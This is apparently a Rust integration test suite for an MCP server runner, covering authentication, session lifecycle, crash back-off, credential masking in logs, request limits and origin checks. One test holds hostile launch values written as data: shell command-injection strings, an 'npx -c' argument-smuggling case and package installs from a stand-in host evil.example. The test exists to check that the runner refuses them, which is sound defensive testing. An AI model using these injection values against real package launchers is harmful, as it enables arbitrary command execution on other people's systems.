//! Wire-level behaviour of the runner, over raw HTTP.

use std::time::Duration;

use edge_tests::runner::{children, server_everything, Runner};
use serde_json::{json, Value};

use crate::raw::{
    client, health, init_body, json_of, log_lines, open_session, post, read_all, wait_health,
    wait_status, Events,
};

#[tokio::test]
async fn mcp_and_logs_need_the_upstream_secret_and_health_is_open_and_quiet() {
    let r = Runner::everything(&[("SOME_API_KEY", "sk-canary-should-stay-hidden")]);
    for path in ["/mcp", "/logs"] {
        let none = client()
            .post(format!("{}{path}", r.base_url))
            .json(&init_body())
            .send()
            .await
            .unwrap();
        assert_eq!(none.status(), 401, "{path}");
        assert!(none.headers()["www-authenticate"]
            .to_str()
            .unwrap()
            .starts_with("Bearer"));
        let wrong = client()
            .get(format!("{}{path}", r.base_url))
            .bearer_auth("x".repeat(48))
            .send()
            .await
            .unwrap();
        assert_eq!(wrong.status(), 401, "{path}");
    }
    wait_status(&r.base_url, "ready").await;
    let health = client()
        .get(format!("{}/health", r.base_url))
        .send()
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
    let text = health.text().await.unwrap();
    assert!(
        !text.contains(&r.secret)
            && !text.contains("sk-canary")
            && !text.contains("server-everything"),
        "{text}"
    );
}

#[tokio::test]
async fn unknown_sessions_are_404_and_missing_ones_400() {
    let r = Runner::everything(&[]);
    let list = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"});
    let unknown = post(
        &r.mcp_url(),
        &r.secret,
        Some("0123456789abcdef0123456789abcdef"),
        &list,
    )
    .send()
    .await
    .unwrap();
    assert_eq!(unknown.status(), 404);
    let missing = post(&r.mcp_url(), &r.secret, None, &list)
        .send()
        .await
        .unwrap();
    assert_eq!(missing.status(), 400);
    let sid = open_session(&r.mcp_url(), &r.secret).await;
    let bad_version = client()
        .post(r.mcp_url())
        .bearer_auth(&r.secret)
        .header("accept", "application/json, text/event-stream")
        .header("mcp-session-id", &sid)
        .header("mcp-protocol-version", "1999-01-01")
        .json(&list)
        .send()
        .await
        .unwrap();
    assert_eq!(bad_version.status(), 400);
}

#[tokio::test]
async fn each_session_gets_its_own_process_and_delete_ends_it() {
    let r = Runner::everything(&[("CATWALK_SPARES", "0")]);
    let a = open_session(&r.mcp_url(), &r.secret).await;
    let b = open_session(&r.mcp_url(), &r.secret).await;
    assert_ne!(a, b);
    assert_eq!(r.session_processes().len(), 2, "one child per session");

    let del = client()
        .delete(r.mcp_url())
        .bearer_auth(&r.secret)
        .header("mcp-session-id", &a)
        .send()
        .await
        .unwrap();
    assert_eq!(del.status(), 204);
    let list = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"});
    assert_eq!(
        post(&r.mcp_url(), &r.secret, Some(&a), &list)
            .send()
            .await
            .unwrap()
            .status(),
        404
    );
    let still = post(&r.mcp_url(), &r.secret, Some(&b), &list)
        .send()
        .await
        .unwrap();
    assert_eq!(still.status(), 200);
    let events = read_all(still).await;
    assert!(events
        .iter()
        .any(|e| json_of(e)["result"]["tools"].is_array()));
    for _ in 0..50 {
        if r.session_processes().len() == 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(r.session_processes().len(), 1, "DELETE ended the child");
}

#[tokio::test]
async fn a_child_killed_mid_call_answers_with_a_json_rpc_error_and_a_new_session_works() {
    let r = Runner::everything(&[("CATWALK_SPARES", "0")]);
    let sid = open_session(&r.mcp_url(), &r.secret).await;
    let call = json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {
        "name": "trigger-long-running-operation", "arguments": {"duration": 10, "steps": 10}, "_meta": {"progressToken": "p7"}}});
    let resp = post(&r.mcp_url(), &r.secret, Some(&sid), &call)
        .send()
        .await
        .unwrap();
    let mut events = Events::new(resp);
    let first = events.next().await.expect("a progress event");
    assert_eq!(json_of(&first)["method"], "notifications/progress");

    // Kill the MCP server (node) under the session.
    let server = r.session_processes();
    assert_eq!(server.len(), 1);
    let mut victims = vec![server[0]];
    victims.extend(children(server[0]));
    for pid in victims {
        unsafe { libc::kill(pid as i32, libc::SIGKILL) };
    }

    let mut last = None;
    while let Some(e) = events.next().await {
        last = Some(json_of(&e));
    }
    let last = last.expect("an answer after the crash");
    assert_eq!(last["id"], 7);
    assert!(
        last["error"]["message"]
            .as_str()
            .unwrap()
            .contains("exited"),
        "{last}"
    );

    let list = json!({"jsonrpc": "2.0", "id": 8, "method": "tools/list"});
    assert_eq!(
        post(&r.mcp_url(), &r.secret, Some(&sid), &list)
            .send()
            .await
            .unwrap()
            .status(),
        404
    );
    let fresh = open_session(&r.mcp_url(), &r.secret).await;
    assert_ne!(fresh, sid);
}

#[test]
fn a_hostile_package_is_refused_before_anything_runs() {
    let tag = edge_tests::random_hex(6);
    let marker = std::env::temp_dir().join(format!("pwned-{tag}"));
    let m = marker.display().to_string();
    let cases = [
        // Shell metacharacters: never a shell, and now not even a package name.
        json!({"runtime": "npm", "package": format!("x; touch {m}1 && echo $(touch {m}2) `touch {m}3` | sh")}),
        // `npx -y -c <cmd>` runs <cmd> in a shell: `-c` must not be taken as a package.
        json!({"runtime": "npm", "package": "-c", "args": [format!("touch {m}4")]}),
        // Installing from anywhere but the registry.
        json!({"runtime": "npm", "package": "https://evil.example/x.tgz"}),
        json!({"runtime": "python", "package": "--from", "args": ["git+https://evil.example/x"]}),
        json!({"runtime": "npm", "package": "left-pad", "version": "file:../x"}),
    ];
    for launch in cases {
        let (code, log) = Runner::refused(&launch.to_string(), &[]);
        assert_eq!(code, Some(2), "{launch}: {log}");
        assert!(log.contains("CATWALK_LAUNCH refused"), "{launch}: {log}");
    }
    for i in 1..=4 {
        assert!(
            !std::path::Path::new(&format!("{m}{i}")).exists(),
            "a shell ran: {m}{i} exists"
        );
    }
}

#[tokio::test]
async fn the_childs_stderr_is_served_with_credentials_masked() {
    let secret_value = "canary-credential-0f9e8d7c";
    let launch = json!({"argv": ["sh", "-c", "echo \"connecting with $API_KEY\" >&2; exec node \"$0\" stdio", server_everything().display().to_string()]}).to_string();
    let r = Runner::start(&launch, &[("API_KEY", secret_value)]);
    open_session(&r.mcp_url(), &r.secret).await;
    let mut lines = String::new();
    for _ in 0..50 {
        lines = log_lines(&r.base_url, &r.secret).await.join("\n");
        if lines.contains("connecting with") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(lines.contains("connecting with [REDACTED]"), "{lines}");
    assert!(!lines.contains(secret_value));
}

#[tokio::test]
async fn a_dropped_stream_resumes_from_last_event_id_with_only_the_missed_events() {
    let r = Runner::everything(&[]);
    let sid = open_session(&r.mcp_url(), &r.secret).await;
    let call = json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call", "params": {
        "name": "trigger-long-running-operation", "arguments": {"duration": 3, "steps": 3}, "_meta": {"progressToken": 9}}});
    let resp = post(&r.mcp_url(), &r.secret, Some(&sid), &call)
        .send()
        .await
        .unwrap();
    let mut events = Events::new(resp);
    let first = events.next().await.unwrap();
    assert_eq!(json_of(&first)["params"]["progress"], 1, "{first:?}");
    let last_id = first.id.clone().unwrap();
    drop(events); // the client goes away; the call goes on

    tokio::time::sleep(Duration::from_millis(2500)).await;
    let resumed = client()
        .get(r.mcp_url())
        .bearer_auth(&r.secret)
        .header("accept", "text/event-stream")
        .header("mcp-session-id", &sid)
        .header("last-event-id", &last_id)
        .send()
        .await
        .unwrap();
    assert_eq!(resumed.status(), 200);
    let rest: Vec<Value> = read_all(resumed).await.iter().map(json_of).collect();
    let progress: Vec<&Value> = rest
        .iter()
        .filter(|m| m["method"] == "notifications/progress")
        .collect();
    assert_eq!(
        progress
            .iter()
            .map(|p| p["params"]["progress"].clone())
            .collect::<Vec<_>>(),
        vec![json!(2), json!(3)]
    );
    assert_eq!(
        rest.last().unwrap()["id"],
        9,
        "the response comes last: {rest:?}"
    );
}

#[tokio::test]
async fn oversized_and_malformed_posts_are_refused() {
    let r = Runner::everything(&[("CATWALK_MAX_BODY_BYTES", "1024")]);
    let big = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"pad": "x".repeat(2000)}});
    assert_eq!(
        post(&r.mcp_url(), &r.secret, None, &big)
            .send()
            .await
            .unwrap()
            .status(),
        413
    );
    let garbage = client()
        .post(r.mcp_url())
        .bearer_auth(&r.secret)
        .header("accept", "application/json, text/event-stream")
        .header("content-type", "application/json")
        .body("{not json")
        .send()
        .await
        .unwrap();
    assert_eq!(garbage.status(), 400);
    let v: Value = garbage.json().await.unwrap();
    assert_eq!(v["error"]["code"], -32700);
    let not_rpc = post(&r.mcp_url(), &r.secret, None, &json!({"hello": "world"}))
        .send()
        .await
        .unwrap();
    assert_eq!(not_rpc.status(), 400);
    let no_accept = client()
        .post(r.mcp_url())
        .bearer_auth(&r.secret)
        .header("accept", "text/html")
        .json(&init_body())
        .send()
        .await
        .unwrap();
    assert_eq!(no_accept.status(), 406);
}

/// Servers killed right after they answered (an operator's kill, the soak's fault) are no
/// crash loop: the next initialize is served at once, never "backing off".
#[tokio::test]
async fn servers_killed_after_answering_do_not_trigger_the_crash_back_off() {
    let r = Runner::everything(&[]);
    wait_status(&r.base_url, "ready").await;
    for _ in 0..4 {
        open_session(&r.mcp_url(), &r.secret).await;
    }
    let servers = r.session_processes();
    assert!(servers.len() >= 4, "{servers:?}");
    for pid in &servers {
        // SAFETY: kill(2) on the runner's own children, just listed.
        unsafe { libc::kill(*pid as i32, libc::SIGKILL) };
    }
    // Their exits are noted (within 10 s of their start: the crash window's rule).
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while log_lines(&r.base_url, &r.secret)
        .await
        .iter()
        .filter(|l| l.contains("MCP server exited"))
        .count()
        < servers.len()
    {
        assert!(std::time::Instant::now() < deadline, "exits never noted");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // More sessions than any warm spare could cover: each needs a fresh child.
    for i in 0..4 {
        let resp = post(&r.mcp_url(), &r.secret, None, &init_body())
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200, "#{i}: {:?}", resp.text().await);
    }
}

/// Servers killed together while still starting (the soak's kill landing on a herd of
/// re-initializations after a restart) are one incident, not a crash loop: the next
/// initialize is served, never "backing off".
#[tokio::test]
async fn servers_killed_together_while_starting_are_one_crash_not_a_loop() {
    // Slow to start, so every child is still silent when it is killed.
    let script = r#"sleep 2; exec node "$0" stdio"#;
    let launch = json!({"argv": ["sh", "-c", script, server_everything().display().to_string()]})
        .to_string();
    let r = Runner::start(&launch, &[("CATWALK_SPARES", "0")]);
    wait_status(&r.base_url, "ready").await;
    let url = r.mcp_url();
    let pending: Vec<_> = (0..4)
        .map(|_| {
            let (url, secret) = (url.clone(), r.secret.clone());
            tokio::spawn(async move { post(&url, &secret, None, &init_body()).send().await })
        })
        .collect();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let starting = loop {
        let now = r.session_processes();
        if now.len() >= 4 {
            break now;
        }
        assert!(std::time::Instant::now() < deadline, "children: {now:?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    for pid in &starting {
        // SAFETY: kill(2) on the runner's own children, just listed.
        unsafe { libc::kill(*pid as i32, libc::SIGKILL) };
    }
    for p in pending {
        // The stream was open (200) before the child died; it ends with an error.
        let text = p.await.unwrap().unwrap().text().await.unwrap();
        assert!(
            text.contains("\"error\"") && !text.contains("\"result\""),
            "a killed child answered initialize: {text}"
        );
    }
    let resp = post(&url, &r.secret, None, &init_body())
        .send()
        .await
        .unwrap();
    let status = resp.status();
    let said = resp.text().await;
    assert_eq!(
        status,
        200,
        "{said:?}\n{}",
        log_lines(&r.base_url, &r.secret).await.join("\n")
    );
}

/// A server that passes the readiness probe and then dies at every start: its warm spares
/// count as crashes, so they are backed off instead of respawned in a loop, and a client's
/// initialize during the back-off gets 503 with `Retry-After`.
#[tokio::test]
async fn a_server_that_keeps_dying_at_start_is_backed_off() {
    let marker = tempfile::tempdir().unwrap();
    let once = marker.path().join("started-once").display().to_string();
    // The first run (the probe) serves; every later one exits at once.
    let script = r#"if [ -e "$0" ]; then exit 3; fi; touch "$0"; exec node "$1" stdio"#;
    let launch =
        json!({"argv": ["sh", "-c", script, once, server_everything().display().to_string()]})
            .to_string();
    let r = Runner::start(&launch, &[]);
    wait_status(&r.base_url, "ready").await;
    let resp = loop {
        let resp = post(&r.mcp_url(), &r.secret, None, &init_body())
            .send()
            .await
            .unwrap();
        if resp.status() == 503 {
            break resp;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let retry: u64 = resp.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(retry >= 1);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["id"], 0);
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("backing off"),
        "{body}"
    );
    // While backing off, nothing is respawned.
    let exits = |lines: &[String]| {
        lines
            .iter()
            .filter(|l| l.contains("MCP server exited"))
            .count()
    };
    let before = exits(&log_lines(&r.base_url, &r.secret).await);
    tokio::time::sleep(Duration::from_secs(2)).await;
    let after = exits(&log_lines(&r.base_url, &r.secret).await);
    assert_eq!(
        before, after,
        "children kept being started during the back-off"
    );
    assert!(before <= 6, "{before} children exited before the back-off");
    assert_eq!(health(&r.base_url).await.1["status"], "ready");
}

#[tokio::test]
async fn idle_sessions_are_reaped() {
    let r = Runner::everything(&[("CATWALK_IDLE_TIMEOUT_SECS", "1"), ("CATWALK_SPARES", "0")]);
    let sid = open_session(&r.mcp_url(), &r.secret).await;
    assert_eq!(r.session_processes().len(), 1);
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let list = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"});
    assert_eq!(
        post(&r.mcp_url(), &r.secret, Some(&sid), &list)
            .send()
            .await
            .unwrap()
            .status(),
        404
    );
    for _ in 0..30 {
        if r.session_processes().is_empty() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("the reaped session's process is still running");
}

#[tokio::test]
async fn sigterm_stops_the_runner_and_its_children() {
    let r = Runner::everything(&[]);
    open_session(&r.mcp_url(), &r.secret).await;
    open_session(&r.mcp_url(), &r.secret).await;
    wait_health(&r.base_url, Duration::from_secs(20), |h| {
        h["sessions"] == 2 && h["spares"] == 1
    })
    .await;
    let runner = r.pid().expect("runner pid");
    let kids = r.session_processes();
    assert_eq!(kids.len(), 3, "two sessions and the warm spare");
    unsafe { libc::kill(runner as i32, libc::SIGTERM) };
    for _ in 0..60 {
        let alive = |p: u32| {
            std::path::Path::new(&format!("/proc/{p}")).exists()
                && !std::fs::read_to_string(format!("/proc/{p}/stat"))
                    .unwrap_or_default()
                    .contains(") Z ")
        };
        if !alive(runner) && kids.iter().all(|k| !alive(*k)) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("runner or its children outlived SIGTERM by 6 s");
}

#[tokio::test]
async fn sessions_past_the_limit_are_refused_with_retry_after() {
    let r = Runner::everything(&[("CATWALK_MAX_SESSIONS", "1")]);
    open_session(&r.mcp_url(), &r.secret).await;
    let second = post(&r.mcp_url(), &r.secret, None, &init_body())
        .send()
        .await
        .unwrap();
    assert_eq!(second.status(), 503);
    assert!(second.headers().get("retry-after").is_some());
    let v: Value = second.json().await.unwrap();
    assert_eq!(v["id"], 0, "the error answers the initialize request");
    assert_eq!(
        r.session_processes().len(),
        1,
        "no process was started for the refused session"
    );
}

#[tokio::test]
async fn a_foreign_origin_is_refused_as_a_dns_rebinding_defence() {
    let r = Runner::everything(&[
        ("CATWALK_ALLOWED_ORIGINS", "https://app.catwalk.test"),
        ("CATWALK_SPARES", "0"),
    ]);
    wait_status(&r.base_url, "ready").await;
    let evil = post(&r.mcp_url(), &r.secret, None, &init_body())
        .header("origin", "http://evil.example")
        .send()
        .await
        .unwrap();
    assert_eq!(evil.status(), 403);
    assert_eq!(
        r.session_processes().len(),
        0,
        "nothing was started for a refused origin"
    );
    let listed = post(&r.mcp_url(), &r.secret, None, &init_body())
        .header("origin", "https://app.catwalk.test")
        .send()
        .await
        .unwrap();
    assert_eq!(listed.status(), 200);
}
